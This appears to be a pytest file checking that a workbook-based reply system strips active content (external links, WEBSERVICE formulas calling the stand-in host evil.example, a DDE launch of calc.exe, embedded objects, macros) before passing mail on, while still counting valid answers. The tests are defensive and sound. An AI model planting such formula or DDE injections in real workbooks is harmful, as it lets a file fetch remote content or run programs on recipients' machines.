"""A malicious author of workbooks wants their file to reach others with our name on it, and to do there what it does.

It fetches values from a server when it is opened, by a link or a formula that lies where formulas lie, or elsewhere; it starts a
program by DDE, or carries an object. It is sent with the token, so that it is
read, and with a mistake, so that it is sent back: to its sender and to the contact.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.attacks.books import with_dde, with_external_link, with_formula, with_macros, with_name, with_part
from tests.attacks.scene import Scene, person

ELSEWHERE = "http://evil.example/fetch.xlsx"
FETCHES = f'WEBSERVICE("{ELSEWHERE}")'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def embedded(book: bytes) -> bytes:
    """Return a workbook that carries a program as an object."""
    return with_part(book, "xl/embeddings/oleObject1.bin", b"MZ evil program", f"{OFFICE}/oleObject", f"{OFFICE}/oleObject")


ACTIVE: dict[str, Callable[[bytes], bytes]] = {
    "link": lambda book: with_external_link(book, ELSEWHERE),
    "dde": lambda book: with_dde(book, "/c calc.exe"),
    "object": embedded,
    "formula": lambda book: with_formula(book, FETCHES),
    "formula in another folder": lambda book: with_formula(book, FETCHES, "pages"),
    "name": lambda book: with_name(book, FETCHES),
    "macro": lambda book: with_macros(book, b"MZ evil program"),
}
ALIVE = (b"ddeLink", b"/c calc.exe", ELSEWHERE.encode(), b"MZ evil program", b"vbaProject")


@pytest.mark.parametrize("sender", ["colleague@member5.example", person(5)])
@pytest.mark.parametrize("kind", ACTIVE)
def test_nothing_active_leaves_the_house(scene: Scene, kind: str, sender: str) -> None:
    """The answers are read all the same, and the mistakes told."""
    scene.reply(5, sender, ("answers.xlsx", ACTIVE[kind](scene.workbook(5, share_cross_border=140.0))))
    left = scene.left()
    assert person(5) in {one.to for one in left}
    assert not [(one, mark) for one in left for mark in ALIVE if mark in one.attached]


@pytest.mark.parametrize("kind", ACTIVE)
def test_nothing_active_of_a_stranger_is_passed_on_to_the_staff(scene: Scene, kind: str) -> None:
    """Not even inside the message that they wrote."""
    scene.write("spy@evil.example", ("tables.xlsx", ACTIVE[kind](scene.tokenless(0))), text="What do you think of these tables?")
    assert not [(one, mark) for one in scene.left() for mark in ALIVE if mark in one.attached]


@pytest.mark.parametrize("kind", ACTIVE)
def test_a_good_answer_in_such_a_workbook_counts(scene: Scene, kind: str) -> None:
    """People have templates and links that they know nothing of."""
    scene.reply(5, person(5), ("answers.xlsx", ACTIVE[kind](scene.workbook(5, employees=505))))
    assert scene.answers() == {5: 505}
